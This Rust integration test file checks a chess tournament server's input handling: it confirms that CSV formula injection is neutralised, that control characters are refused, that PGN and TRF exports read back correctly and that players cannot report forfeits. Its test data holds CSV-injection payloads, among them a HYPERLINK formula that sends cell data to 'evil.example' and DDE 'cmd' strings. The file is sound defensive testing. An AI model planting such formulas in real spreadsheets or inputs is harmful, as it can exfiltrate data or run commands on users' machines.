//! Issue 30 (items 6, 7, 9, 13): what a stranger types into an evening cannot become a
//! spreadsheet formula, a TRF record or a PGN tag; a name an evening takes is one its
//! server games take; a player reports games played, never a forfeit. Through the real
//! server, as a stranger sends it.
//!
//! `FLAGFALL_PGN_OUT=DIR` also writes each game of the exported PGN there with what an
//! ordinary reader must find in it (`NAME.expect.json`), for scripts/check_pgn_readers.py
//! (python-chess), as the scenario suite does.

use std::net::SocketAddr;

use serde_json::{Value, json};

use crate::evening::{Evening, call, call_raw, expect};
use crate::support::*;

/// What a hostile line of text looks like: a TRF player record and a PGN tag after a
/// line end.
const FAKE: &str = "001   99 m    Fake Player                       2900 USA";

/// Board play on the server, one result counts (`confirm: one`), no check-in.
fn board_evening(extra: Value) -> Value {
    let mut body = json!({"name":"Injection night","format":"swiss","rounds":3,
        "time_control":"G/5;d0","rules":"uscf-2020","play":"board","confirm":"one",
        "check_in":false});
    if let (Some(b), Value::Object(more)) = (body.as_object_mut(), extra) {
        b.extend(more);
    }
    body
}

/// Enter `names` (rated `top`, then 10 less each) and pair round 1: its answer.
async fn enter_and_pair<S: AsRef<str>>(ev: &Evening, names: &[S], top: usize) -> Value {
    let players: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, n)| json!({"name": n.as_ref(), "rating": top - 10 * i}))
        .collect();
    ev.director("POST", "/players", json!({ "players": players }), 201)
        .await;
    ev.director("POST", "/rounds", Value::Null, 201).await
}

/// The evening as its director exports it (the whole event file), for "unchanged".
async fn file(ev: &Evening) -> String {
    let (status, text) = call(
        ev.addr,
        "GET",
        &ev.path("/export/json"),
        Some(&ev.director),
        "",
    )
    .await;
    assert_eq!(status, 200, "{text}");
    text
}

/// A public export as text.
async fn export(addr: SocketAddr, ev: &Evening, kind: &str) -> String {
    let (status, _, body) = call_raw(
        addr,
        "GET",
        &ev.path(&format!("/export/{kind}")),
        None,
        "",
        b"",
    )
    .await;
    assert_eq!(status, 200, "{kind}: {}", String::from_utf8_lossy(&body));
    String::from_utf8(body).expect("UTF-8")
}

/// A refusal: `status`, and the answer names `field`.
fn refused_naming(got: (u16, String), status: u16, field: &str, what: &str) {
    assert_eq!(got.0, status, "{what}: {}", got.1);
    assert!(
        got.1.contains(field),
        "{what}: the answer names {field:?}: {}",
        got.1
    );
}

/// One CSV line read as RFC 4180 says (quoted cells, `""` a quote).
fn csv_cells(line: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                out.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(String::new()),
            (c, _) => out.last_mut().unwrap().push(c),
        }
    }
    out
}

/// Item 6: names that a spreadsheet would run as formulas come out of the public
/// standings CSV as text (a single quote inside the quoted cell, OWASP's "CSV
/// Injection"), and numbers stay numbers: the `TPN` tiebreak is minus the pairing
/// number, `-3` for player 3, written as the number it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_are_neutralised_in_the_standings_csv() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let ev = Evening::create(addr, board_evening(json!({"tiebreaks":"TPN,BH"}))).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "Ann;=1+1",
        "Bob, \"the Rook\"",
    ];
    let r1 = enter_and_pair(&ev, &names, 2000).await;
    for b in r1["boards"].as_array().unwrap() {
        let n = b["board"].as_u64().unwrap();
        ev.director(
            "POST",
            &format!("/rounds/1/boards/{n}/result"),
            json!({"result": "1-0"}),
            200,
        )
        .await;
    }
    let csv = export(addr, &ev, "csv").await;
    // The byte order mark first (Excel reads accented names as UTF-8 only with it, issue 31).
    let csv = csv
        .strip_prefix('\u{feff}')
        .expect("the standings CSV begins with a byte order mark");
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("rank,number,name,rating,points,TPN,BH"));
    let mut seen = Vec::new();
    for line in lines {
        let cells = csv_cells(line);
        assert_eq!(cells.len(), 7, "{line}");
        let number: i64 = cells[1].parse().expect("the number is a number");
        // The negative tiebreak is a bare number a spreadsheet adds up.
        assert_eq!(cells[5], format!("-{number}"), "{line}");
        let name = &cells[2];
        let original = names[usize::try_from(number - 1).unwrap()];
        if matches!(original.chars().next(), Some('=' | '+' | '-' | '@')) {
            assert_eq!(name, &format!("'{original}"), "{line}");
            // Quoted, with the quote inside the quotes.
            assert!(line.contains(",\"'"), "{line}");
        } else {
            assert_eq!(name, original, "{line}");
            // `;` and `,` are quoted: no part of the name starts a cell of its own.
            assert!(
                line.contains(&format!(",\"{}\",", original.replace('"', "\"\""))),
                "{line}"
            );
        }
        seen.push(original);
    }
    seen.sort_unstable();
    let mut all = names.to_vec();
    all.sort_unstable();
    assert_eq!(seen, all, "{csv}");
    srv.stop().await;
}

/// Item 7: a line end (or any control character) in any text the evening takes is
/// refused with a 400 naming the field, and the evening is as it was: at creation, in
/// the report details, in a player entered as JSON, CSV or TRF, in a forbidden pair's
/// note, in an event file imported whole; an import also has the name rules (once
/// each, a game's 64 characters) and the player limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn line_ends_are_refused_wherever_the_evening_takes_text() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let hostile = [
        format!("Reno\n{FAKE}"),
        "Reno\r\n[White \"Fake\"]".to_string(),
        "Reno\rX".to_string(),
        "Reno\tX".to_string(),
        "Reno\u{2028}X".to_string(),
        "Reno\u{85}X".to_string(),
        "Reno\0".to_string(),
    ];
    // Creation: every text field.
    type Body = fn(&str) -> Value;
    let fields: [(&str, Body); 9] = [
        ("name", |t| json!({"name": t})),
        ("site", |t| json!({"site": t})),
        ("date", |t| json!({"date": t})),
        ("report.city", |t| json!({"report": {"city": t}})),
        (
            "report.federation",
            |t| json!({"report": {"federation": t}}),
        ),
        (
            "report.chief_arbiter",
            |t| json!({"report": {"chief_arbiter": t}}),
        ),
        (
            "report.deputy_arbiters",
            |t| json!({"report": {"deputy_arbiters": t}}),
        ),
        ("report.state", |t| json!({"report": {"state": t}})),
        ("report.end_date", |t| json!({"report": {"end_date": t}})),
    ];
    for (field, body) in fields {
        for text in &hostile {
            let got = call(
                addr,
                "POST",
                "/api/events",
                None,
                &board_evening(body(text)).to_string(),
            )
            .await;
            refused_naming(
                got,
                400,
                field,
                &format!("creation with {field} = {text:?}"),
            );
        }
    }
    // An evening with legal text; everything below leaves it as it is.
    let ev = Evening::create(
        addr,
        board_evening(json!({"site":"Reno","date":"2026-11-28",
            "report":{"city":"Reno","chief_arbiter":"Ann Arbiter"}})),
    )
    .await;
    ev.director(
        "POST",
        "/players",
        json!({"players":[{"name":"Ann"},{"name":"Bob"}]}),
        201,
    )
    .await;
    let before = file(&ev).await;
    for field in [
        "city",
        "federation",
        "chief_arbiter",
        "deputy_arbiters",
        "country",
        "zip",
    ] {
        for text in &hostile {
            let got = call(
                addr,
                "PUT",
                &ev.path("/report"),
                Some(&ev.director),
                &json!({ field: text }).to_string(),
            )
            .await;
            refused_naming(
                got,
                400,
                &format!("report.{field}"),
                &format!("PUT report {field}"),
            );
        }
    }
    // Players as JSON: a line end, a name over a game's 64 characters, twice the same.
    for text in &hostile {
        let got = call(
            addr,
            "POST",
            &ev.path("/players"),
            Some(&ev.director),
            &json!({"players":[{"name":"Cy"},{"name": text}]}).to_string(),
        )
        .await;
        refused_naming(got, 400, "players[2].name", &format!("player {text:?}"));
    }
    let long = "Ñ".repeat(65);
    let got = call(
        addr,
        "POST",
        &ev.path("/players"),
        Some(&ev.director),
        &json!({"name": long}).to_string(),
    )
    .await;
    refused_naming(got, 400, "players[1].name: 65 characters", "65 characters");
    let got = call(
        addr,
        "POST",
        &ev.path("/players"),
        Some(&ev.director),
        &json!({"players":[{"name":"Cy"},{"name":"Cy"}]}).to_string(),
    )
    .await;
    refused_naming(got, 400, "players[2].name", "the same name twice");
    // Players as CSV.
    for (csv, field) in [
        (
            "name,rating\nCy,1500\nDi\rX,1400\n".to_string(),
            "line 3: name",
        ),
        (format!("name\n{}\n", "x".repeat(65)), "line 2: name"),
        ("name\n\"Di\nX\"\n".to_string(), "line 2"),
        ("name\nCy\nCy\n".to_string(), "players[2].name"),
    ] {
        let (status, _, body) = call_raw(
            addr,
            "POST",
            &ev.path("/players"),
            Some(&ev.director),
            "text/csv",
            csv.as_bytes(),
        )
        .await;
        refused_naming(
            (status, String::from_utf8_lossy(&body).into()),
            400,
            field,
            &format!("CSV {csv:?}"),
        );
    }
    // Players as TRF: a vertical tab inside the name field, a name twice.
    let trf_line = |n: u32, name: &str| format!("001 {n:>4}      {name:<33} 1500");
    for (trf, field) in [
        (
            format!(
                "012 X\n{}\n{}\n",
                trf_line(1, "Cy"),
                trf_line(2, "Di\u{b}X")
            ),
            "players[2].name",
        ),
        (
            format!("012 X\n{}\n{}\n", trf_line(1, "Cy"), trf_line(2, "Cy")),
            "players[2].name",
        ),
    ] {
        let (status, _, body) = call_raw(
            addr,
            "POST",
            &ev.path("/players?format=trf"),
            Some(&ev.director),
            "",
            trf.as_bytes(),
        )
        .await;
        refused_naming(
            (status, String::from_utf8_lossy(&body).into()),
            400,
            field,
            &format!("TRF {trf:?}"),
        );
    }
    // A forbidden pair's note.
    let got = call(
        addr,
        "POST",
        &ev.path("/forbidden"),
        Some(&ev.director),
        &json!({"a":1,"b":2,"note": hostile[0]}).to_string(),
    )
    .await;
    refused_naming(got, 400, "note", "forbidden note");
    assert_eq!(
        file(&ev).await,
        before,
        "nothing refused changed the evening"
    );

    // An event file imported whole: each text field, names once, 64 characters, 10,000
    // players at most. What is refused creates no evening.
    let event: Value = serde_json::from_str(&before).unwrap();
    let mutate = |f: &dyn Fn(&mut Value)| {
        let mut e = event.clone();
        e.as_object_mut().unwrap().remove("log");
        f(&mut e);
        e.to_string()
    };
    let cases: Vec<(String, &str)> = vec![
        (mutate(&|e| e["site"] = json!(hostile[0])), "site"),
        (mutate(&|e| e["date"] = json!("2026-11\n[X")), "date"),
        (mutate(&|e| e["name"] = json!(hostile[1])), "name"),
        (
            mutate(&|e| e["report"]["city"] = json!(hostile[0])),
            "report.city",
        ),
        (
            mutate(&|e| e["report"]["chief_arbiter"] = json!(hostile[1])),
            "report.chief_arbiter",
        ),
        (
            mutate(&|e| e["players"][1]["name"] = json!(hostile[0])),
            "players[2].name",
        ),
        (
            mutate(&|e| e["players"][1]["name"] = json!("Ann")),
            "players[2].name",
        ),
        (
            mutate(&|e| e["players"][1]["name"] = json!("B".repeat(65))),
            "players[2].name",
        ),
        (
            mutate(&|e| {
                let p = e["players"][0].clone();
                e["players"] = (1..=10_001)
                    .map(|i| {
                        let mut q = p.clone();
                        q["id"] = json!(i);
                        q["name"] = json!(format!("P{i}"));
                        q
                    })
                    .collect();
            }),
            "at most 10,000",
        ),
    ];
    for (body, field) in &cases {
        let got = call(addr, "POST", "/api/events/import", None, body).await;
        refused_naming(got, 400, field, &format!("import with a bad {field}"));
    }
    // The file itself, as it is, is an evening.
    let (status, text) = call(addr, "POST", "/api/events/import", None, &before).await;
    assert_eq!(status, 201, "{text}");
    srv.stop().await;
}

/// The games of a PGN export, each from its `[Event` tag.
fn pgn_games(pgn: &str) -> Vec<String> {
    let mut games: Vec<String> = Vec::new();
    for line in pgn.lines() {
        if line.starts_with("[Event ") {
            games.push(String::new());
        }
        if let Some(g) = games.last_mut() {
            g.push_str(line);
            g.push('\n');
        }
    }
    games
}

/// A PGN tag value as the standard means it (`\"` a quote, `\\` a backslash).
fn unescape(token: &str) -> String {
    let mut out = String::new();
    let mut chars = token.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            out.extend(chars.next());
        } else {
            out.push(c);
        }
    }
    out
}

/// Items 7 and 13: an evening whose text is hostile but legal (quotes, backslashes,
/// brackets, braces, `%`, accents, an emoji, a combining accent, a name of a game's 64
/// characters) exports a TRF that flagfall's own TRF parser reads back player for player,
/// and a PGN whose every game flagfall's PGN reader (pgn-reader, as `flagfall replay
/// --from-pgn` reads it) reads with the names as entered; with `FLAGFALL_PGN_OUT` each
/// game goes to python-chess too (scripts/check_pgn_readers.py, in CI).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_but_legal_text_exports_a_trf_and_a_pgn_that_read_back() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let names = [
        "José Núñez-Müller".to_string(),
        "Ann 🦄 Lee".to_string(),
        "Jose\u{301} Nun\u{303}ez".to_string(),
        "Bob \"The Rook\" \\ Smith".to_string(),
        "]} [White \"X\"] {%ff x}".to_string(),
        format!("{}🦄", "Þ".repeat(63)),
        "Cy ; 1-0 *".to_string(),
        "Di".to_string(),
    ];
    let ev = Evening::create(
        addr,
        board_evening(
            json!({"name":"Open \"Ünïcödé\" \\ [1]","site":"Reno \"NV\" \\ {x} [y]",
            "date":"2026-11-28","report":{"city":"São Paulo","federation":"BRA",
            "chief_arbiter":"IA \"Zé\" Árbitro \\ 1","deputy_arbiters":"A; B, C"}}),
        ),
    )
    .await;
    let r1 = enter_and_pair(&ev, &names, 2100).await;
    let results = ["1-0", "1/2", "0-1", "+-"];
    for (b, result) in r1["boards"].as_array().unwrap().iter().zip(results) {
        let n = b["board"].as_u64().unwrap();
        ev.director(
            "POST",
            &format!("/rounds/1/boards/{n}/result"),
            json!({ "result": result }),
            200,
        )
        .await;
    }
    let event: Value = serde_json::from_str(&file(&ev).await).unwrap();
    let number_of = |name: &str| {
        event["players"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .map(|p| p["id"].as_u64().unwrap() as u32)
            .unwrap()
    };

    // TRF: flagfall-pairing's parser reads every player back, in its columns.
    let trf_text = export(addr, &ev, "trf").await;
    let trf =
        flagfall_pairing::trf::Trf::parse(&trf_text).unwrap_or_else(|e| panic!("{e}\n{trf_text}"));
    assert_eq!(trf.players.len(), names.len(), "{trf_text}");
    for name in &names {
        let p = trf.player(number_of(name)).unwrap();
        let column: String = name.chars().take(33).collect();
        assert!(
            column.starts_with(&p.name) && column.trim_end() == p.name
                || name.chars().count() > 33 && column.starts_with(&p.name),
            "{name:?} read back as {:?}\n{trf_text}",
            p.name
        );
        assert_eq!(
            Some(p.rating.unwrap()),
            event["players"][p.number as usize - 1]["rating"]
                .as_u64()
                .map(|r| r as u32)
        );
        assert_eq!(p.rounds.len(), 1, "{trf_text}");
    }
    assert!(
        trf.headers
            .iter()
            .any(|h| h.tag == "022" && h.text == "Reno \"NV\" \\ {x} [y]"),
        "{trf_text}"
    );
    assert!(
        trf.headers
            .iter()
            .any(|h| h.tag == "102" && h.text == "IA \"Zé\" Árbitro \\ 1"),
        "{trf_text}"
    );
    assert_eq!(
        trf_text.lines().filter(|l| l.starts_with("001")).count(),
        names.len()
    );

    // PGN: one game per board, each read by flagfall's reader with the names entered.
    let pgn = export(addr, &ev, "pgn").await;
    let games = pgn_games(&pgn);
    assert_eq!(games.len(), 4, "{pgn}");
    let out = std::env::var("FLAGFALL_PGN_OUT").ok();
    for (i, game) in games.iter().enumerate() {
        let tag = |t: &str| {
            let lines: Vec<&str> = game
                .lines()
                .filter(|l| l.starts_with(&format!("[{t} \"")))
                .collect();
            assert_eq!(lines.len(), 1, "one {t} tag: {game}");
            let inner = &lines[0][t.len() + 3..lines[0].len() - 2];
            unescape(inner)
        };
        let (white, black) = (tag("White"), tag("Black"));
        assert!(names.contains(&white) && names.contains(&black), "{game}");
        assert_eq!(tag("Site"), "Reno \"NV\" \\ {x} [y]");
        assert_eq!(tag("Event"), "Open \"Ünïcödé\" \\ [1]");
        let script = flagfall_game::pgn::from_pgn(game, "uscf-2020")
            .unwrap_or_else(|e| panic!("flagfall's PGN reader: {e}\n{game}"));
        let script =
            flagfall_game::script::parse(&script).unwrap_or_else(|e| panic!("{e}\n{script}"));
        assert_eq!(
            script.setup.white.as_deref(),
            Some(white.as_str()),
            "{game}"
        );
        assert_eq!(
            script.setup.black.as_deref(),
            Some(black.as_str()),
            "{game}"
        );
        if let Some(dir) = &out {
            std::fs::write(format!("{dir}/evening-injection-{}.pgn", i + 1), game).unwrap();
            let expect =
                json!({"White": white, "Black": black, "Result": tag("Result"), "moves": []});
            std::fs::write(
                format!("{dir}/evening-injection-{}.expect.json", i + 1),
                expect.to_string(),
            )
            .unwrap();
        }
    }
    srv.stop().await;
}

/// Item 9: a player reports the result of a game played; a forfeit in any spelling
/// (`+-`, `-+`, `--`, `+/-`, `1-0f`, ...) from a player's token is refused (403) and
/// changes nothing; the director enters it, and it is not rated.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_player_reports_no_forfeit_the_director_does() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let ev = Evening::create(addr, board_evening(json!({"rounds": 1}))).await;
    let added = ev
        .director(
            "POST",
            "/players",
            json!({"players":[{"name":"Ann","rating":1900},{"name":"Bob","rating":1800},
            {"name":"Cy","rating":1700},{"name":"Di","rating":1600}]}),
            201,
        )
        .await;
    let token = |name: &str| {
        added["players"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .unwrap()["token"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let r1 = ev.director("POST", "/rounds", Value::Null, 201).await;
    let before = file(&ev).await;
    for b in r1["boards"].as_array().unwrap() {
        let n = b["board"].as_u64().unwrap();
        for side in ["white", "black"] {
            let player = token(b[side]["name"].as_str().unwrap());
            for forfeit in [
                "+-", "-+", "--", "+/-", "-/+", "-/-", "1-0f", "0-1f", "0-0f", "*",
            ] {
                let (status, text) = call(
                    addr,
                    "POST",
                    &ev.path(&format!("/rounds/1/boards/{n}/result")),
                    Some(&player),
                    &json!({ "result": forfeit }).to_string(),
                )
                .await;
                assert_eq!(status, 403, "{side} reports {forfeit}: {text}");
                assert!(
                    text.contains("forfeit") && text.contains("director"),
                    "{text}"
                );
            }
        }
    }
    assert_eq!(file(&ev).await, before, "a refused report changes nothing");
    // The board's player reports a game played; the director enters the forfeit.
    let (status, text) = call(
        addr,
        "POST",
        &ev.path("/rounds/1/boards/1/result"),
        Some(&token(r1["boards"][0]["white"]["name"].as_str().unwrap())),
        r#"{"result":"1-0"}"#,
    )
    .await;
    assert_eq!(status, 200, "{text}");
    let done = ev
        .director(
            "POST",
            "/rounds/1/boards/2/result",
            json!({"result":"+-"}),
            200,
        )
        .await;
    assert_eq!(done["round"]["boards"][1]["results"], json!(["+-"]));
    // Not rated: board 2's players have no rated game.
    let ratings = expect(addr, "GET", &ev.path("/rating-changes"), None, "", 200).await;
    for p in ratings["players"].as_array().unwrap() {
        let on_board_2 = [
            &r1["boards"][1]["white"]["number"],
            &r1["boards"][1]["black"]["number"],
        ]
        .contains(&&p["number"]);
        let games = p["games"]
            .as_u64()
            .unwrap_or_else(|| panic!("games of {p}"));
        assert_eq!(games, u64::from(!on_board_2), "{p}");
    }
    srv.stop().await;
}

/// Item 13: one name limit, a game's (64 characters, no control character), checked
/// where names enter: a server evening whose players have 64-character names (an emoji,
/// a combining accent) pairs and its games carry the names, where a 65-character name
/// used to make every pairing fail with a 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_at_the_limit_pair_on_the_server() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let ev = Evening::create(
        addr,
        json!({"name":"Long names","format":"swiss","rounds":1,"time_control":"G/5;d0",
               "rules":"uscf-2020","play":"server","check_in":false}),
    )
    .await;
    let a = format!("{}🦄", "A".repeat(63));
    let b = format!("{}e\u{301}", "B".repeat(62));
    assert_eq!(a.chars().count(), 64);
    assert_eq!(b.chars().count(), 64);
    let got = call(
        addr,
        "POST",
        &ev.path("/players"),
        Some(&ev.director),
        &json!({"name": format!("{a}x")}).to_string(),
    )
    .await;
    refused_naming(got, 400, "players[1].name: 65 characters", "65 characters");
    ev.director(
        "POST",
        "/players",
        json!({"players":[{"name": a},{"name": b}]}),
        201,
    )
    .await;
    let r1 = ev.director("POST", "/rounds", Value::Null, 201).await;
    let game = r1["boards"][0]["game"]
        .as_str()
        .expect("a server game")
        .to_string();
    // The game's setup (its script's first line) carries the two names.
    let script = srv.get_text(&format!("/api/games/{game}/script")).await;
    let setup: Value = serde_json::from_str(script.lines().next().unwrap()).unwrap();
    let mut got = [
        setup["white"].as_str().unwrap_or_default().to_string(),
        setup["black"].as_str().unwrap_or_default().to_string(),
    ];
    got.sort();
    assert_eq!(got, [a.clone(), b.clone()], "{setup}");
    srv.stop().await;
}

/// Item 7, the rating list: a title with a control character in FIDE's list is refused
/// naming the player and the field, and nothing of the list is taken.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rating_list_with_a_control_character_is_refused() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let ev = Evening::create(addr, board_evening(json!({}))).await;
    ev.director(
        "POST",
        "/players",
        json!({"players":[{"name":"Magnus Carlsen"},{"name":"Ann Other"}]}),
        201,
    )
    .await;
    let before = file(&ev).await;
    let mut line: Vec<char> = crate::evening::fide_line(1_503_014, "Carlsen, Magnus", "NOR", 2850)
        .chars()
        .collect();
    for (i, c) in "G\u{b}M".chars().enumerate() {
        line[84 + i] = c;
    }
    let list = [
        "ID Number      Name                                                         Fed Sex Tit  WTit OTit           FOA SRtng SGm SK RRtng RGm Rk BRtng BGm BK B-day Flag".to_string(),
        line.into_iter().collect(),
    ]
    .join("\n")
        + "\n";
    let got = call(
        addr,
        "POST",
        &ev.path("/ratings?rating=blitz"),
        Some(&ev.director),
        &list,
    )
    .await;
    refused_naming(
        got,
        400,
        "title: holds a control character (U+000B)",
        "a title with a vertical tab",
    );
    assert_eq!(file(&ev).await, before, "nothing of the list taken");
    srv.stop().await;
}

/// A director saves the TRF while round 1 is played (one board finished) and enters its
/// players in another evening: the pending games are written with a blank result, which
/// the upload reads, and nothing of the first evening changes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trf_saved_while_a_round_is_played_fills_another_evening() {
    let srv = Server::start().await;
    let addr = srv.addr;
    let ev = Evening::create(addr, board_evening(json!({"name":"Friday"}))).await;
    let names = ["Ann", "Bob", "Cy", "Di", "Ed", "Flo"];
    let r1 = enter_and_pair(&ev, &names, 2100).await;
    let first = r1["boards"][0]["board"].as_u64().unwrap();
    ev.director(
        "POST",
        &format!("/rounds/1/boards/{first}/result"),
        json!({ "result": "1/2" }),
        200,
    )
    .await;
    let before = file(&ev).await;
    let trf = export(addr, &ev, "trf").await;
    // Two boards still played: four players' round-1 column is an opponent and a colour.
    let pending = trf
        .lines()
        .filter(|l| l.starts_with("001"))
        .filter(|l| {
            let column: String = l.chars().skip(91).collect();
            let c = column.trim_end();
            c.ends_with(" w") || c.ends_with(" b")
        })
        .count();
    assert_eq!(pending, 4, "{trf}");

    let next = Evening::create(addr, board_evening(json!({"name":"Saturday"}))).await;
    let (status, text) = call(
        addr,
        "POST",
        &next.path("/players?format=trf"),
        Some(&next.director),
        &trf,
    )
    .await;
    assert_eq!(status, 201, "{text}");
    let entered: Value = serde_json::from_str(&file(&next).await).unwrap();
    let mut got: Vec<&str> = entered["players"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    got.sort_unstable();
    assert_eq!(got, names, "{entered}");
    assert_eq!(file(&ev).await, before, "the first evening is unchanged");
    srv.stop().await;
}
